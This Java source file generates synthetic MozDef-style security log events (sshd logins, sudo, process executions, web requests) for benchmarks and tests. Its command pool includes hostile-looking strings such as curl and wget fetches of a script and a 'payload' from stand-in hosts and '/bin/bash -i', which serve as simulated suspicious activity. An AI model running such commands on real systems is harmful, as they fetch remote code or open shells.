package io.vigil.events.bench;

import java.io.IOException;
import java.io.Writer;
import java.time.Duration;
import java.time.Instant;
import java.util.SplittableRandom;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import io.vigil.events.Timestamps;
import io.vigil.events.internal.read.JsonSupport;

/**
 * Generates MozDef-like events for benchmarks and tests: sshd logins that fail and succeed,
 * sudo, process executions and web requests, from a fixed pool of hosts, users and addresses,
 * spread over a span of days. The same seed and count always give the same events, and every
 * event is distinct (each carries its sequence number), so a store that holds them holds exactly
 * {@code count} events.
 */
public final class EventGenerator {

	/** The first instant generated events may have. */
	public static final Instant START = Instant.parse("2026-11-24T00:00:00Z");
	/** The span over which events spread. */
	public static final Duration SPAN = Duration.ofDays(7);

	private static final String[] HOSTS = { "web1", "web2", "web3", "db1", "db2", "bastion", "mail", "vpn", "ci",
			"fileserver" };
	private static final String[] USERS = { "root", "alice", "bob", "carol", "dave", "deploy", "backup", "admin",
			"oracle", "git", "test", "guest" };
	private static final String[] COMMANDS = { "/usr/bin/ls -la", "/usr/bin/curl -s http://example.com/x.sh",
			"/usr/bin/python3 manage.py migrate", "/bin/bash -i", "/usr/bin/systemctl restart nginx",
			"/usr/bin/tar czf /tmp/backup.tgz /etc", "/usr/bin/wget http://203.0.113.9/payload" };
	private static final String[] URLS = { "/", "/login", "/api/v1/items", "/admin", "/wp-login.php", "/static/app.js",
			"/.env", "/search?q=test" };

	private final SplittableRandom random;
	private long sequence;

	/** Creates a generator with a seed. */
	public EventGenerator(long seed) {
		this.random = new SplittableRandom(seed);
	}

	/** Writes events as JSON lines. */
	public void write(long count, Writer out) throws IOException {
		for (long i = 0; i < count; i++) {
			out.write(JsonSupport.MAPPER.writeValueAsString(next()));
			out.write('\n');
		}
	}

	/** Returns the next event. */
	public ObjectNode next() {
		long n = sequence++;
		Instant time = START.plusMillis(random.nextLong(SPAN.toMillis()));
		ObjectNode event = JsonNodeFactory.instance.objectNode();
		event.put("utctimestamp", Timestamps.format(time));
		event.put("hostname", pick(HOSTS));
		ObjectNode details = JsonNodeFactory.instance.objectNode();
		int kind = random.nextInt(100);
		if (kind < 45) {
			authentication(event, details, n);
		} else if (kind < 55) {
			sudo(event, details);
		} else if (kind < 75) {
			execve(event, details, n);
		} else {
			web(event, details);
		}
		details.put("sequence", n);
		event.set("details", details);
		return event;
	}

	private void authentication(ObjectNode event, ObjectNode details, long n) {
		boolean success = random.nextInt(10) < 3;
		String user = pick(USERS);
		String address = address();
		int port = 1024 + random.nextInt(64000);
		event.put("category", "authentication");
		event.put("severity", success ? "INFO" : "NOTICE");
		event.put("processname", "sshd");
		event.put("processid", 1000 + (int) (n % 30000));
		event.put("source", "auth.log");
		event.put("summary", (success ? "Accepted publickey for " : "Failed password for ") + user + " from " + address
				+ " port " + port + " ssh2");
		details.put("sourceipaddress", address);
		details.put("sourceport", port);
		details.put("destinationport", random.nextInt(20) == 0 ? 2222 : 22);
		details.put("username", user);
		details.put("success", success);
		event.putArray("tags").add("sshd").add(success ? "login" : "failed-login");
	}

	private void sudo(ObjectNode event, ObjectNode details) {
		String user = pick(USERS);
		String command = pick(COMMANDS);
		event.put("category", "sudo");
		event.put("severity", "NOTICE");
		event.put("processname", "sudo");
		event.put("source", "auth.log");
		event.put("summary", user + " : TTY=pts/" + random.nextInt(8) + " ; USER=root ; COMMAND=" + command);
		details.put("username", user);
		details.put("targetuser", "root");
		details.put("command", command);
	}

	private void execve(ObjectNode event, ObjectNode details, long n) {
		String command = pick(COMMANDS);
		event.put("category", "execve");
		event.put("severity", command.contains("payload") || command.contains("bash -i") ? "WARNING" : "INFO");
		event.put("processname", "audisp-json");
		event.put("source", "auditd");
		event.put("summary", "Execve: " + command);
		details.put("command", command);
		details.put("pid", 2000 + (int) (n % 60000));
		details.put("ppid", 1 + random.nextInt(2000));
		details.put("uid", random.nextInt(4) == 0 ? 0 : 1000 + random.nextInt(20));
		details.put("auditkey", "exec");
	}

	private void web(ObjectNode event, ObjectNode details) {
		String address = address();
		int status = random.nextInt(10) < 8 ? 200 : random.nextInt(2) == 0 ? 404 : 500;
		String url = pick(URLS);
		event.put("category", "weblog");
		event.put("severity", status >= 500 ? "ERROR" : "INFO");
		event.put("processname", "nginx");
		event.put("source", "access.log");
		event.put("summary", address + " GET " + url + " " + status);
		details.put("sourceipaddress", address);
		details.put("destinationport", 443);
		details.put("method", "GET");
		details.put("url", url);
		details.put("status", status);
		details.put("bytes", random.nextInt(200_000));
		details.put("useragent", random.nextInt(5) == 0 ? "curl/8.5.0" : "Mozilla/5.0 (X11; Linux x86_64)");
	}

	private String address() {
		int pool = random.nextInt(10);
		if (pool < 4) {
			return "10." + random.nextInt(4) + "." + random.nextInt(256) + "." + (1 + random.nextInt(254));
		}
		if (pool < 6) {
			return "192.168." + random.nextInt(4) + "." + (1 + random.nextInt(254));
		}
		if (pool < 9) {
			return "198.51.100." + (1 + random.nextInt(254));
		}
		return "2001:db8::" + Integer.toHexString(1 + random.nextInt(0xfffe));
	}

	private String pick(String[] values) {
		return values[random.nextInt(values.length)];
	}
}
